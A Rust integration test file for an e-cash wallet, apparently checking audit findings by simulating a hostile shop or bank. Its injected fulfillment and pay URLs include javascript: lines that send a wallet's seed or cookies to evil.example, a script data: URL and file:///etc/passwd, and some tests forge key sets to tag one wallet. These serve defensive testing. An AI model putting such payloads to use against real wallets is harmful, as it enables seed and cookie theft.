//! The audit's findings against the real wallet core and a real mint (bank
//! and demo shop), with a hostile shop or bank played by rewriting real
//! answers. Numbers are the findings' numbers in the audit.
// Native: these start the mint in-process and use SQLite files.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use common::*;
use ecash_core::keyset::RsaPublicKeyData;
use ecash_core::messages::PayReq;
use ecash_core::{B32, DenominationKey, KeySet, Keypair, Signed, SignedKeySet};
use wallet_wasm::records::Event;
use wallet_wasm::{Offer, Wallet};

/// Finding 1: a shop's URLs are used only on the origin its payment request
/// came from, https (or http on loopback) only.
#[tokio::test]
async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let (mut w, _) = funded(&mint, dir.path(), "payer", 1000).await;
    w.withdraw(500, None).await.expect("withdraw");

    // A payment request whose fulfillment URL is script, or another site,
    // or whose pay URL is another site: refused before any coin moves.
    for (field, value) in [
        (
            "fulfillment_url",
            "javascript:fetch('//evil.example/?'+localStorage.seed)",
        ),
        ("fulfillment_url", "https://evil.example/done"),
        (
            "fulfillment_url",
            "data:text/html,<script>alert(1)</script>",
        ),
        ("pay_url", "https://evil.example/pay"),
        ("pay_url", "http://203.0.113.7/pay"),
    ] {
        let order = mint.order("haiku").await;
        let url = mint.payreq_url(&order.payreq.payreq_id);
        let v = value.to_owned();
        w.transport().inject(
            "/api/orders/",
            Fault::Tamper(Box::new(move |j| j[field] = serde_json::json!(v))),
            1,
        );
        let offer = w.resolve_payreq(&url).await.expect("fetched");
        assert_eq!(
            offer.origin, mint.shop_url,
            "the origin it was fetched from"
        );
        let e = w.check_payreq(&offer).expect_err(value);
        assert_eq!(e.code(), "payreq_invalid", "{e}");
        let e = w.pay(offer).await.expect_err(value);
        assert_eq!(e.code(), "payreq_invalid", "{e}");
        assert_eq!(w.balance().total, 500);
        assert!(w.pending().is_empty());
    }
    // Pasted as JSON: its own pay URL's origin is the origin, and must hold.
    let order = mint.order("haiku").await;
    let mut p: PayReq = order.payreq.clone();
    p.fulfillment_url = "https://evil.example/done".into();
    let e = w
        .resolve_payreq(&serde_json::to_string(&p).expect("json"))
        .await
        .and_then(|o| w.check_payreq(&o).map(|_| o))
        .expect_err("other origin");
    assert_eq!(e.code(), "payreq_invalid");
    let o = w
        .resolve_payreq(&serde_json::to_string(&order.payreq).expect("json"))
        .await
        .expect("json payreq");
    assert_eq!(o.origin, mint.shop_url);
    // A link that is not http(s) is never fetched.
    for bad in [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "web+ecash:javascript%3Aalert(1)",
    ] {
        let e = w.resolve_payreq(bad).await.expect_err(bad);
        assert_eq!(e.code(), "payreq_invalid", "{bad}: {e}");
    }

    // The shop answers the payment with a script URL: the payment stands
    // (the receipt verifies), but the wallet keeps no link and says why.
    w.transport().inject(
        "/api/pay/",
        Fault::Tamper(Box::new(|j| {
            j["fulfillment_url"] =
                serde_json::json!("javascript:fetch('//evil.example/?'+document.cookie)")
        })),
        1,
    );
    let done = w.pay(mint.order("haiku").await).await.expect("paid");
    assert!(done.goods_link().is_none());
    let why = done.link_refused().expect("the refusal is reported");
    assert!(why.contains("javascript:"), "{why}");
    assert!(matches!(
        &done.entry.event,
        Event::Paid {
            receipt: Some(_),
            fulfillment_url: None,
            ..
        }
    ));
    // An honest shop: the link is on its origin, the goods key in the fragment only.
    let done = w.pay(mint.order("haiku").await).await.expect("paid");
    let link = done.goods_link().expect("link");
    assert!(
        link.starts_with(&format!("{}/fulfillment/", mint.shop_url)),
        "{link}"
    );
    assert!(
        link.contains("#goods_key=") && !link.contains('?'),
        "{link}"
    );
    for h in w.history() {
        if let Some(l) = h.event.goods_link() {
            assert!(l.starts_with(&mint.shop_url), "{l}");
        }
    }
}

/// Finding 2: starting, recovering and restoring never show the bank the
/// coins the wallet holds.
#[tokio::test]
async fn f2_the_wallet_never_shows_the_bank_its_coins() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let (mut w, path) = funded(&mint, dir.path(), "holder", 2000).await;
    w.withdraw(1000, None).await.expect("withdraw");
    w.pay(mint.order("coffee").await).await.expect("pay");
    let (mut other, _) = funded(&mint, dir.path(), "other", 0).await;
    let token = w.send(64).await.expect("send");
    other.receive(&token).await.expect("receive");
    let held: Vec<B32> = w.coins().iter().map(|r| r.coin.serial).collect();
    let phrase = w.seed_phrase();

    // Paying asked the bank nothing about the merchant (that would show the
    // bank whom this wallet just paid): the shop's key comes with its answer.
    let asked = w.transport().requests.borrow().clone();
    assert!(
        !asked.iter().any(|u| u.contains("/public-key")),
        "the wallet asked the bank about the merchant: {asked:?}"
    );
    drop(w);

    // What a wallet does on every start.
    let mut w = reopen(&mint, &path).await;
    w.recover().await.expect("recover");
    let asked = w.transport().requests.borrow().clone();
    assert!(
        asked.iter().all(|u| u.ends_with("/keys")),
        "recover asked the bank more than the key set: {asked:?}"
    );

    // Restore from the seed: the coins come back, found through the public
    // spent lists, without a question about any serial.
    let store = wallet_wasm::store::sqlite::SqliteStore::open(&dir.path().join("restored.db"))
        .expect("store");
    let (r, report) = mint.restore(store, &phrase).await.expect("restore");
    let asked = r.transport().requests.borrow().clone();
    assert!(
        !asked.iter().any(|u| u.contains("/coins/state")),
        "restore asked about serials: {asked:?}"
    );
    assert!(asked.iter().any(|u| u.ends_with("/spent")));
    let mut got: Vec<B32> = r.coins().iter().map(|c| c.coin.serial).collect();
    let mut want = held;
    got.sort();
    want.sort();
    assert_eq!(got, want, "exactly the unspent coins");
    assert_eq!(report.unspent, want.len());
}

/// The key set the mint serves, re-signed with its master key after `edit`.
async fn forged_key_set(mint: &Mint, edit: impl FnOnce(&mut KeySet)) -> serde_json::Value {
    let secret =
        std::fs::read_to_string(mint.bank.dir.path().join("keys/master.key")).expect("master key");
    let master = Keypair::from_secret_bytes(&B32::from_b64(secret.trim()).expect("b64").0);
    let bank = ecash_core::client::BankClient::new(
        &mint.url,
        wallet_wasm::transport::ReqwestTransport::new().expect("http"),
    );
    let signed: SignedKeySet = bank.keys().await.expect("key set").key_set;
    let mut set = signed.body;
    edit(&mut set);
    serde_json::to_value(Signed::sign(set, &master)).expect("json")
}

/// A fresh denomination key with the windows of `like`.
fn key_like(like: &DenominationKey, period: u64) -> DenominationKey {
    let sk = ecash_core::blind_rsa::generate_key(2048).expect("keygen");
    let public_key = RsaPublicKeyData::from_key(&sk.to_public_key());
    DenominationKey {
        key_id: public_key.key_id(),
        public_key,
        period,
        ..like.clone()
    }
}

/// Finding 5: a bank cannot tag one wallet with a key of its own, whether
/// added beside the honest key or swapped for the key the wallet saw before.
#[tokio::test]
async fn f5_a_key_made_for_one_wallet_is_refused() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let (mut w, _) = funded(&mint, dir.path(), "target", 1000).await;
    let honest: Vec<B32> = w.key_set().keys.keys().copied().collect();
    let now = mint.now();
    let current = move |d: &[DenominationKey]| {
        d.iter()
            .find(|k| k.value.value == 1 && k.can_withdraw(now))
            .cloned()
            .expect("a key for 1")
    };
    let forged = vec![
        // A second key for the same value and period, beside the honest one.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            s.denominations.push(key_like(&k, k.period));
        })
        .await,
        // A key under a period index of its own, over the same window.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            s.denominations.push(key_like(&k, k.period + 1000));
        })
        .await,
        // The honest key swapped for another under the same value and period.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            s.denominations.retain(|x| x.key_id != k.key_id);
            s.denominations.push(key_like(&k, k.period));
        })
        .await,
        // The honest key's window cut short, a new key in the rest of it
        // under an unseen period index.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            let mut tag = key_like(&k, k.period + 7);
            tag.withdraw_from = now;
            for d in s.denominations.iter_mut().filter(|d| d.key_id == k.key_id) {
                d.withdraw_until = now - 1;
            }
            s.denominations.push(tag);
        })
        .await,
        // The next period's keys left out, to show this wallet a key of its
        // own when the period turns: refused while they are missing.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            s.denominations
                .retain(|d| !(d.value.value == 1 && d.period == k.period + 1));
        })
        .await,
        // Another period length, with a fresh key that fits it: the periods
        // re-numbered, so no remembered (value, period) would catch the key.
        forged_key_set(&mint, |s| {
            let k = current(&s.denominations);
            let half = s.period_secs / 2;
            let period = now / half;
            let mut tag = key_like(&k, period);
            tag.withdraw_from = period * half;
            tag.withdraw_until = tag.withdraw_from + half - 1;
            s.period_secs = half;
            s.denominations = vec![tag];
        })
        .await,
    ];
    for (i, set) in forged.into_iter().enumerate() {
        w.transport().inject(
            "/keys",
            Fault::Tamper(Box::new(move |j| *j = set.clone())),
            1,
        );
        let e = w.refresh_keys().await.expect_err("tagging key set");
        assert_eq!(e.code(), "keyset_refused", "set {i}: {e}");
        let mut now_keys: Vec<B32> = w.key_set().keys.keys().copied().collect();
        now_keys.sort();
        let mut want = honest.clone();
        want.sort();
        assert_eq!(now_keys, want, "set {i}: the honest set stays in use");
    }
    // The honest set is still accepted, and withdrawals use its keys only.
    w.refresh_keys().await.expect("honest set");
    w.withdraw(7, None).await.expect("withdraw");
    assert!(w.coins().iter().all(|c| honest.contains(&c.coin.key_id)));
}

/// Finding 7: a payment whose shop never answers does not lock its coins:
/// once the request has expired (plus grace), recover settles it with the
/// bank: coins back if the shop never deposited, the bank's proof if it did.
#[tokio::test]
async fn f7_a_payment_to_a_vanished_shop_is_settled_after_expiry() {
    let mint = Mint::start_with(&["--payreq-ttl-secs", "2"]);
    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("payer.db");
    let store = wallet_wasm::store::sqlite::SqliteStore::open(&path).expect("store");
    let s = wallet_wasm::WalletSettings {
        payment_grace_secs: 1,
        ..mint.settings()
    };
    let (mut w, _) = Wallet::create(store, Flaky::new(), &mint.url, None, s)
        .await
        .expect("create");
    w.faucet(1000).await.expect("faucet");
    w.withdraw(600, None).await.expect("withdraw");

    // The shop is gone before it sees the payment.
    let offer = mint.order("coffee").await;
    let expires = offer.payreq.expires_at;
    w.transport().inject("/api/pay/", Fault::CutBefore, 1000);
    let e = w.pay(offer).await.expect_err("shop gone");
    assert_eq!(e.code(), "interrupted");
    assert_eq!(w.balance().reserved, 300);
    let r = w.recover().await.expect("recover");
    assert_eq!(
        (r.still_pending, w.balance().reserved),
        (1, 300),
        "not expired yet"
    );

    // The shop takes a payment to the bank, then vanishes.
    let offer2 = mint.order("haiku").await;
    let expires = expires.max(offer2.payreq.expires_at);
    w.transport().clear();
    w.transport().inject("/api/pay/", Fault::DropAnswer, 1);
    let e = w.pay(offer2).await.expect_err("answer lost");
    assert_eq!(e.code(), "interrupted");
    w.transport().inject("/api/pay/", Fault::CutBefore, 1000);

    let wait = expires.saturating_add(2).saturating_sub(mint.now());
    mint.advance(wait + 1);
    let r = w.recover().await.expect("recover");
    assert_eq!(r.resumed, 2, "{r:?}");
    assert!(w.pending().is_empty(), "{:?}", w.pending());
    let b = w.balance();
    assert_eq!(
        (b.total, b.reserved),
        (600 - 25, 0),
        "coffee coins back, haiku paid"
    );
    let proved = w.history().into_iter().any(|h| {
        matches!(
            h.event,
            Event::Paid {
                proof: Some(_),
                receipt: None,
                ..
            }
        )
    });
    assert!(proved, "the deposited payment is proved by the bank");
}

/// A wallet over `mint` with a short grace for vanished shops, funded and holding 600.
async fn payer(mint: &Mint, dir: &std::path::Path) -> NativeWallet {
    let store =
        wallet_wasm::store::sqlite::SqliteStore::open(&dir.join("payer.db")).expect("store");
    let s = wallet_wasm::WalletSettings {
        payment_grace_secs: 1,
        ..mint.settings()
    };
    let (mut w, _) = Wallet::create(store, Flaky::new(), &mint.url, None, s)
        .await
        .expect("create");
    w.faucet(1000).await.expect("faucet");
    w.withdraw(600, None).await.expect("withdraw");
    w
}

/// Deposits the payment the wallet posted to the shop, as the demo shop would.
async fn deposit_as_the_shop(mint: &Mint, w: &NativeWallet) {
    let body = w
        .transport()
        .posts
        .borrow()
        .iter()
        .rev()
        .find(|(u, _)| u.contains("/api/pay/"))
        .map(|(_, b)| b.clone())
        .expect("a payment was posted");
    let payment: ecash_core::messages::Payment = serde_json::from_str(&body).expect("payment");
    let secret =
        std::fs::read_to_string(mint.shop.dir.path().join("merchant.key")).expect("shop key");
    let key = Keypair::from_secret_bytes(&B32::from_b64(secret.trim()).expect("b64").0);
    let deposit = Signed::sign(
        ecash_core::messages::Deposit {
            merchant_acc_id: ecash_core::messages::account_id(&key.public()),
            payment,
        },
        &key,
    );
    let bank = ecash_core::client::BankClient::new(
        &mint.url,
        wallet_wasm::transport::ReqwestTransport::new().expect("http"),
    );
    bank.deposit(&deposit).await.expect("deposited at the bank");
}

/// Finding 7 (outside review): a shop that refuses a payment, and deposits
/// it after the wallet has seen its coins unspent, leaves the payer the
/// bank's proof, not "spent elsewhere".
#[tokio::test]
async fn f7_a_shop_that_refuses_then_deposits_leaves_the_payer_its_proof() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let mut w = payer(&mint, dir.path()).await;
    // Coins that make 300 exactly: the payment needs no change exchange.
    w.withdraw(300, None).await.expect("withdraw");
    let offer = mint.order("coffee").await;
    let refusal = br#"{"code":"order_taken","message":"already paid; your coins were not taken"}"#;
    w.transport()
        .inject("/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
    // The reclaim is cut before it reaches the bank; the shop deposits meanwhile.
    w.transport().inject("/exchange", Fault::CutBefore, 1);
    let e = w.pay(offer).await.expect_err("refused");
    assert_eq!(e.code(), "interrupted", "{e}");
    deposit_as_the_shop(&mint, &w).await;
    let r = w.recover().await.expect("recover");
    assert_eq!(r.completed, 1, "{r:?}");
    assert!(w.pending().is_empty());
    assert_eq!(w.balance().total, 600, "the coffee was paid");
    let h = w.history();
    assert!(
        h.iter()
            .any(|e| matches!(e.event, Event::Paid { proof: Some(_), .. })),
        "the bank's proof stands in for the receipt"
    );
    assert!(
        !h.iter()
            .any(|e| matches!(e.event, Event::SpentElsewhere { .. })),
        "the payment was not lost as spent elsewhere"
    );
}

/// Finding 7 (outside review): an answer without the bank's ack, or a
/// request that would never expire, cannot hold the payer's coins.
#[tokio::test]
async fn f7_a_hostile_answer_or_endless_request_cannot_hold_the_coins() {
    let mint = Mint::start_with(&["--payreq-ttl-secs", "2"]);
    let dir = tempfile::tempdir().expect("tmp");
    let mut w = payer(&mint, dir.path()).await;
    // A request valid for ten years: refused before paying.
    let mut far = mint.order("haiku").await;
    far.payreq.expires_at = mint.now() + 10 * 365 * 24 * 3600;
    let e = w.pay(far).await.expect_err("endless request");
    assert_eq!(e.code(), "payreq_invalid", "{e}");
    // The shop deposits, then answers with a forged ack, again and again.
    let offer = mint.order("haiku").await;
    let expires = offer.payreq.expires_at;
    w.transport().inject(
        "/api/pay/",
        Fault::Tamper(Box::new(|j| {
            j["deposit_ack"]["signature"] = serde_json::json!("AAAA")
        })),
        1000,
    );
    let e = w.pay(offer).await.expect_err("no valid ack");
    assert_eq!(e.code(), "interrupted", "{e}");
    let wait = expires.saturating_add(2).saturating_sub(mint.now());
    mint.advance(wait + 1);
    let before = w.transport().requests.borrow().len();
    w.recover().await.expect("recover");
    assert!(w.pending().is_empty(), "{:?}", w.pending());
    assert!(
        w.history()
            .iter()
            .any(|h| matches!(h.event, Event::Paid { proof: Some(_), .. }))
    );
    // Settled: later starts do not call the shop again.
    w.recover().await.expect("recover again");
    let calls = w.transport().requests.borrow()[before..]
        .iter()
        .filter(|u| u.contains("/api/pay/"))
        .count();
    assert_eq!(calls, 1, "the shop is called once more, then never");
}

/// Every offer's origin is what the wallet shows the payer.
#[test]
fn offers_keep_their_origin() {
    let o = Offer {
        payreq: serde_json::from_value(serde_json::json!({
            "payreq_id": "p", "amount": {"currency": "DEMO", "value": 1}, "timestamp": 0,
            "expires_at": 0, "merchant_bank_id": "b", "merchant_acc_id": "m",
            "description": "d", "pay_url": "https://s.example/p", "fulfillment_url": "https://s.example/f"
        }))
        .expect("payreq"),
        origin: "https://s.example".into(),
    };
    let back: Offer =
        serde_json::from_str(&serde_json::to_string(&o).expect("json")).expect("offer");
    assert_eq!(back, o);
}

/// Finding 7 (second review): a reclaim refused for a reason other than a
/// spent coin (its output key expired while it waited) keeps the payment's
/// record and is sent again with fresh outputs.
#[tokio::test]
async fn f7_a_refused_reclaim_is_renewed_not_dropped() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let mut w = payer(&mint, dir.path()).await;
    w.withdraw(300, None).await.expect("withdraw");
    let offer = mint.order("coffee").await;
    let refusal = br#"{"code":"order_taken","message":"paid already"}"#;
    w.transport()
        .inject("/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
    let expired = br#"{"code":"key_expired","message":"key does not sign new coins now"}"#;
    w.transport()
        .inject("/exchange", Fault::Refuse(410, expired.to_vec()), 1);
    let e = w.pay(offer).await.expect_err("refused");
    assert_eq!(e.code(), "order_taken", "{e}");
    assert!(w.pending().is_empty(), "{:?}", w.pending());
    assert_eq!(w.balance().total, 900, "the coins came back");
    assert!(
        !w.history()
            .iter()
            .any(|h| matches!(h.event, Event::SpentElsewhere { .. }))
    );
}

/// A wallet written before key sets carried their period length opens: the
/// cached set is fetched again.
#[tokio::test]
async fn a_wallet_with_a_key_set_of_the_old_format_opens() {
    use wallet_wasm::store::{Store, Write};
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let (w, path) = funded(&mint, dir.path(), "old", 100).await;
    let (store, _) = w.into_parts();
    let records = store.load_all().await.expect("records");
    let (_, keys) = records
        .iter()
        .find(|(k, _)| k == wallet_wasm::records::KEYS_KEY)
        .expect("cached set");
    let mut old: serde_json::Value = serde_json::from_str(keys).expect("json");
    old["body"]
        .as_object_mut()
        .expect("body")
        .remove("period_secs");
    store
        .apply(vec![
            Write::Put(wallet_wasm::records::KEYS_KEY.into(), old.to_string()),
            Write::Delete(wallet_wasm::records::SEEN_KEYS_KEY.into()),
        ])
        .await
        .expect("write");
    drop(store);
    let mut w = reopen(&mint, &path).await;
    w.withdraw(10, None)
        .await
        .expect("withdraw after reopening");
    assert_eq!(w.balance().total, 10);
}

/// A bank answering a registration with another account's id is refused
/// (account ids are hashes of their keys): the wallet would otherwise
/// sign, withdraw and restore as an account that is not its own.
#[tokio::test]
async fn a_registration_naming_another_account_is_refused() {
    let mint = Mint::start();
    let dir = tempfile::tempdir().expect("tmp");
    let net = Flaky::new();
    net.inject(
        "/accounts",
        Fault::Tamper(Box::new(|j| {
            j["account_id"] = serde_json::json!("AAAAAAAAAAAAAAAAAAAAAA")
        })),
        1,
    );
    let store =
        wallet_wasm::store::sqlite::SqliteStore::open(&dir.path().join("w.db")).expect("store");
    let Err(e) = Wallet::create(store, net, &mint.url, None, mint.settings()).await else {
        panic!("a registration naming another account was accepted");
    };
    assert_eq!(e.code(), "bad_answer", "{e}");
    assert!(e.to_string().contains("not this key's"), "{e}");
}
